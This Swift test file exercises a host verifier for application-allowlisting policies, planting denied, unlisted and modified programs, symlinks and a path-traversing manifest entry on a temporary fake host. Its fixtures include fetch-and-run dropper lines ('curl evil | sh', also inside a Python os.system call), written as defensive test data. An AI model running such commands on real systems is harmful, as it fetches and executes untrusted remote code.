import Foundation
import PalisadeCompiler
import PalisadeCrypto
import PalisadeDSL
import PalisadeModel
import PalisadeTestSupport
import PalisadeVerifier
import Testing

@Suite("verify: findings on a planted host")
struct VerifierTests {
    /// The enforcers match paths by their bytes; so does verify. As Swift Strings, `caf\u{E9}` and
    /// `cafe\u{301}` are equal, and `"/opt/denied/\u{301}x"` does not begin with `"/opt/denied/"`.
    @Test func pathsAreMatchedByTheirBytes() throws {
        let (workspace, out, host) = (try TemporaryDirectory(), try TemporaryDirectory(), try TemporaryDirectory())
        let customer = Customer("acme", name: "Acme", mode: .enforce) {
            Linux {
                Deny.directory("/opt/denied/")
                Allow.path("/opt/caf\u{E9}/tool")
            }
        }
        let output = Compiler(workspace: workspace.path, today: "2026-11-30").compile([customer.policy])
        #expect(!output.hasErrors, "\(output.diagnostics)")
        for b in output.bundles { try BundleWriter(outputDirectory: out.path).write(b) }
        let script = "#!/bin/sh\necho hi\n"
        try host.write("opt/denied/\u{301}x", script, mode: 0o755)
        try host.write("opt/caf\u{E9}/tool", script, mode: 0o755)
        try host.write("opt/cafe\u{301}/tool", script, mode: 0o755)
        let report = Verifier(root: host.path, scanLocations: ["/opt"]).verify(try LoadedBundle.load(out.path + "/acme"))
        func kinds(_ path: String) -> [Finding.Kind] {
            report.findings.filter { $0.path?.utf8.elementsEqual(path.utf8) == true }.map(\.kind)
        }
        #expect(kinds("/opt/denied/\u{301}x") == [.deniedPresent])
        #expect(kinds("/opt/cafe\u{301}/tool") == [.unlisted])
        #expect(!kinds("/opt/caf\u{E9}/tool").contains(.unlisted))
    }

    /// Two names that differ only in bytes that are not UTF-8 are two findings an operator can
    /// tell apart (both showed as `x\u{FFFD}…` before).
    @Test func namesThatAreNotUTF8AreShownEscaped() throws {
        let fixture = try HostFixture()
        try fixture.host.write(Array("opt/x".utf8) + [0xFF] + Array("/a".utf8), Array("#!/bin/sh\n".utf8), mode: 0o755)
        try fixture.host.write(Array("opt/x".utf8) + [0xFE] + Array("a".utf8), Array("#!/bin/sh\n".utf8), mode: 0o755)
        let report = try fixture.verify()
        let unlisted = report.findings.filter { $0.kind == .unlisted }.compactMap(\.path)
        #expect(unlisted == [#"/opt/x\xfea"#, #"/opt/x\xff/a"#])
    }

    /// A link in a scanned folder runs what it leads to: that file is checked where it is, even
    /// outside the scanned folders (the enforcers judge it by that path too).
    @Test func linksAreCheckedWhereTheyLead() throws {
        let fixture = try HostFixture()
        let host = fixture.host
        try host.write("var/lib/.cache/rs", HostFixture.bad, mode: 0o755)
        try host.write("var/lib/.cache/ev", "#!/bin/sh\necho evil\n", mode: 0o644)
        #expect(symlink("/var/lib/.cache/rs", host.path + "/usr/local/bin/helper") == 0)
        #expect(symlink("../../var/lib/.cache/ev", host.path + "/usr/bin/ls2") == 0)
        #expect(symlink("tool", host.path + "/usr/bin/tool-link") == 0)          // to an allowed, scanned file
        #expect(symlink("/nowhere", host.path + "/usr/bin/dangling") == 0)
        #expect(symlink("/etc/hostname", host.path + "/usr/bin/not-a-program") == 0)

        let report = try fixture.verify()
        let problems = report.findings.filter(\.kind.isProblem)
        #expect(problems.map(\.kind) == [.unlisted, .deniedPresent], "\(problems)")  // in the links' path order
        let denied = try #require(problems.first { $0.kind == .deniedPresent })
        #expect(denied.path == "/var/lib/.cache/rs" && denied.rule == fixture.rule(fixture.badLine))
        #expect(denied.message == "denied program found at /var/lib/.cache/rs (run through the link /usr/local/bin/helper)")
        let unlisted = try #require(problems.first { $0.kind == .unlisted })
        #expect(unlisted.path == "/var/lib/.cache/ev")
        #expect(unlisted.message.contains("(run through the link /usr/bin/ls2)"))
    }

    /// A folder the operator names must be scanned, or said why not; default folders may be absent.
    @Test func namedScanFoldersThatCannotBeScannedAreFindings() throws {
        let fixture = try HostFixture()
        let report = try fixture.verify(scan: ["/usr/bin", "/srv/absent", "/etc/hostname"])
        let unknown = report.findings.filter { $0.kind == .unknown }
        #expect(unknown.compactMap(\.path).sorted() == ["/etc/hostname", "/srv/absent"])
        #expect(unknown.map(\.message).sorted() == ["cannot scan /etc/hostname: not a folder",
                                                    "cannot scan /srv/absent: No such file or directory"])
        #expect(report.scanned == ["/usr/bin"])
        #expect(!report.compliant)
        // The default locations include folders the fixture host lacks (/srv, /root…): no finding.
        let defaults = Verifier(root: fixture.host.path).verify(try LoadedBundle.load(fixture.bundle))
        #expect(!defaults.findings.contains { $0.kind == .unknown && $0.check == "scan" }, "\(defaults.findings)")
    }

    /// A denied hash names the denied program whatever its mode; folders and paths deny programs only.
    @Test func deniedHashIsFoundInAnyFileScanned() throws {
        let (workspace, out, host) = (try TemporaryDirectory(), try TemporaryDirectory(), try TemporaryDirectory())
        let payload = "import os\nos.system('curl evil | sh')\n"
        let customer = Customer("acme", name: "Acme", mode: .enforce) {
            Linux {
                Deny.sha256(SHA256.hash(Array(payload.utf8)).hex, reason: "known dropper")
                Deny.directory("/opt/remote-tool/")
            }
        }
        let output = Compiler(workspace: workspace.path, today: "2026-11-30").compile([customer.policy])
        #expect(!output.hasErrors, "\(output.diagnostics)")
        for b in output.bundles { try BundleWriter(outputDirectory: out.path).write(b) }
        try host.write("tmp/evil.py", payload, mode: 0o644)
        try host.write("opt/remote-tool/README", "read me\n", mode: 0o644)
        try host.write("opt/remote-tool/run", "#!/bin/sh\n", mode: 0o755)
        let report = Verifier(root: host.path, scanLocations: ["/opt", "/tmp"]).verify(try LoadedBundle.load(out.path + "/acme"))
        let denied = report.findings.filter { $0.kind == .deniedPresent }.compactMap(\.path)
        #expect(denied.sorted() == ["/opt/remote-tool/run", "/tmp/evil.py"])
        #expect(!report.findings.contains { $0.path == "/opt/remote-tool/README" && $0.kind.isProblem })
    }

    /// A folder rule covers what is inside the folder only, even when a manifest (not written by
    /// the compiler, which adds the separator) names the folder without its final `/`.
    @Test func folderRulesStopAtTheFolder() throws {
        let fixture = try HostFixture()
        let manifestPath = fixture.bundle + "/manifest.json"
        let manifest = try String(contentsOfFile: manifestPath, encoding: .utf8)
        let rule = #"{"decision" : "deny", "path" : "/opt/tools", "pathMatch" : "directory", "platform" : "linux", "provenance" : {"source" : "directory", "location" : {"file" : "hand.swift", "line" : 1}}},"#
        #expect(manifest.contains(#""rules" : ["#))
        try manifest.replacingOccurrences(of: #""rules" : ["#, with: #""rules" : ["# + rule)
            .write(toFile: manifestPath, atomically: true, encoding: .utf8)
        try fixture.host.write("opt/tools/run", "#!/bin/sh\n", mode: 0o755)
        try fixture.host.write("opt/toolsbox/run", "#!/bin/sh\n", mode: 0o755)
        let report = Verifier(root: fixture.host.path, scanLocations: ["/opt"]).verify(try LoadedBundle.load(fixture.bundle))
        #expect(report.findings.filter { $0.kind == .deniedPresent }.compactMap(\.path) == ["/opt/tools/run"])
        #expect(report.findings.filter { $0.kind == .unlisted }.compactMap(\.path) == ["/opt/toolsbox/run"])
    }

    /// `"../\u{301}x"` has no `/` character in Swift (`/` and the accent make one), but the kernel
    /// reads `..`: a manifest entry like it must not make verify read outside the bundle.
    @Test func manifestPathsAreCheckedAsTheKernelSplitsThem() throws {
        let fixture = try HostFixture()
        let outside = "\u{301}x"
        let content = Array("outside the bundle\n".utf8)
        _ = try fixture.out.write(Array(outside.utf8), content)
        let manifestPath = fixture.bundle + "/manifest.json"
        let manifest = try String(contentsOfFile: manifestPath, encoding: .utf8)
        let entry = "\"files\" : {\n    \"../\(outside)\" : {\"sha256\" : \"\(SHA256.hash(content).hex)\", \"size\" : \(content.count)},"
        #expect(manifest.contains("\"files\" : {"))
        try manifest.replacingOccurrences(of: "\"files\" : {", with: entry).write(toFile: manifestPath, atomically: true, encoding: .utf8)
        do {
            _ = try LoadedBundle.load(fixture.bundle)
            Issue.record("a bundle whose manifest names ../\(outside) was loaded")
        } catch {
            #expect("\(error)".contains("../\(outside): not a plain relative path"), "\(error)")
        }
    }

    @Test func cleanHostIsCompliant() throws {
        let fixture = try HostFixture()
        let report = try fixture.verify()
        #expect(report.compliant, "\(report.findings.filter { $0.kind.isProblem })")
        #expect(report.summary["ok"]! >= 3)
        let agent = report.findings.first { $0.path == "/opt/acme/bin/agent" }
        #expect(agent?.kind == .ok)
        #expect(agent?.rule == fixture.rule(fixture.agentLine))
    }

    @Test func plantedProblemsAreEachReported() throws {
        let fixture = try HostFixture()
        let host = fixture.host
        // A modified allowed binary, a missing one, a denied one renamed into /tmp, an unlisted script.
        try host.write(Array("usr/bin/tool".utf8), HostFixture.tool + [0x00], mode: 0o755)
        try FileManager.default.removeItem(atPath: host.path + "/opt/acme/bin/agent")
        try host.write("tmp/innocent-name", HostFixture.bad, mode: 0o755)
        try host.write("tmp/dropper.sh", "#!/bin/sh\ncurl evil | sh\n", mode: 0o644)
        try host.write("tmp/notes.txt", "not a program\n", mode: 0o644)

        let report = try fixture.verify()
        #expect(!report.compliant)
        func finding(_ kind: Finding.Kind, _ path: String) -> Finding? {
            report.findings.first { $0.kind == kind && $0.path == path }
        }
        let modified = try #require(finding(.modified, "/usr/bin/tool"))
        #expect(modified.expected?.hasPrefix("sha256 ") == true)
        #expect(modified.actual?.hasSuffix("size \(HostFixture.tool.count + 1)") == true)
        #expect(modified.rule == fixture.rule(fixture.toolLine))

        let missing = try #require(finding(.missing, "/opt/acme/bin/agent"))
        #expect(missing.actual == "absent")
        #expect(missing.rule == fixture.rule(fixture.agentLine))

        let denied = try #require(finding(.deniedPresent, "/tmp/innocent-name"))
        #expect(denied.rule == fixture.rule(fixture.badLine))
        #expect(denied.check == "scan")

        let unlisted = try #require(finding(.unlisted, "/tmp/dropper.sh"))
        #expect(unlisted.actual?.hasPrefix("sha256 ") == true)
        #expect(finding(.unlisted, "/tmp/notes.txt") == nil)  // not an executable
        #expect(report.summary["unlisted"] == 1)
        #expect(report.summary["denied-present"] == 1)
    }

    @Test func deniedFileAtItsOwnPath() throws {
        let fixture = try HostFixture()
        try fixture.host.write("usr/local/bin/bad", HostFixture.bad, mode: 0o755)
        let report = try fixture.verify()
        let found = report.findings.filter { $0.kind == .deniedPresent }
        #expect(found.map(\.path) == ["/usr/local/bin/bad"])
        #expect(found.first?.check == "file")
    }

    @Test func deploymentProblems() throws {
        let fixture = try HostFixture()
        let files = try fixture.bundleFiles().map(\.0)
        let rules = try #require(files.first { $0.hasPrefix("fapolicyd/rules.d/") }, "the bundle has a fapolicyd rules file")
        let profile = try #require(files.first { $0.hasPrefix("apparmor/") }, "the bundle has an AppArmor profile")

        let installedRules = fixture.host.path + "/etc/fapolicyd/" + rules.dropFirst("fapolicyd/".count)
        try Data("deny perm=any all : all\n".utf8).write(to: URL(fileURLWithPath: installedRules), options: .atomic)
        let installedProfile = "/etc/apparmor.d/" + profile.dropFirst("apparmor/".count)
        try FileManager.default.removeItem(atPath: fixture.host.path + installedProfile)
        // The daemon applies every line: the last `permissive` wins.
        try fixture.host.write("etc/fapolicyd/fapolicyd.conf", "permissive = 0\nnice_val = 14\npermissive = 1\n")

        let report = try fixture.verify()
        let different = report.findings.filter { $0.kind == .different }
        #expect(different.contains { $0.check == "fapolicyd" && $0.path == "/etc/fapolicyd/" + rules.dropFirst("fapolicyd/".count) })
        #expect(different.contains { $0.path == "/etc/fapolicyd/fapolicyd.conf" && $0.actual == "permissive = 1" && $0.expected == "permissive = 0" })
        let notDeployed = report.findings.filter { $0.kind == .notDeployed }
        #expect(notDeployed.map(\.path) == [installedProfile])
        #expect(notDeployed.first?.check == "apparmor")

        try fixture.host.write("etc/fapolicyd/fapolicyd.conf", "permissive = 1\n# enforcing from now on\npermissive = 0\n")
        let conf = try fixture.verify().findings.first { $0.path == "/etc/fapolicyd/fapolicyd.conf" && $0.expected == "permissive = 0" }
        #expect(conf?.kind == .ok && conf?.actual == "permissive = 0")
    }

    @Test func symlinksNeverLeadOutOfTheRoot() throws {
        let fixture = try HostFixture()
        // An absolute link and a `..` chain: both must stay inside the root.
        try FileManager.default.removeItem(atPath: fixture.host.path + "/opt/acme/bin/agent")
        #expect(symlink("/etc/hostname", fixture.host.path + "/opt/acme/bin/agent") == 0)
        try FileManager.default.removeItem(atPath: fixture.host.path + "/usr/bin/tool")
        #expect(symlink("../../../../../../../../etc/passwd", fixture.host.path + "/usr/bin/tool") == 0)
        let report = try fixture.verify()
        let agent = report.findings.first { $0.path == "/opt/acme/bin/agent" }
        // Resolved to <root>/etc/hostname (the fixture's own "host\n"), not the machine's.
        #expect(agent?.kind == .modified)
        #expect(agent?.actual == "sha256 \(sha("host\n")) size 5")
        let tool = report.findings.first { $0.path == "/usr/bin/tool" }
        #expect(tool?.kind == .missing)  // <root>/etc/passwd does not exist
    }

    @Test func mergedUsrSymlinkIsFollowedInsideTheRoot() throws {
        let fixture = try HostFixture()
        // /bin → usr/bin, as on merged-/usr hosts: an allowed /usr/bin path is found either way.
        #expect(symlink("usr/bin", fixture.host.path + "/bin") == 0)
        let report = try fixture.verify(scan: ["/bin", "/opt"])
        #expect(report.compliant, "\(report.findings.filter { $0.kind.isProblem })")
    }

    func sha(_ text: String) -> String {
        (try? run("/usr/bin/sha256sum", ["-"], stdin: Data(text.utf8)).out.prefix(64)).map(String.init) ?? ""
    }
}
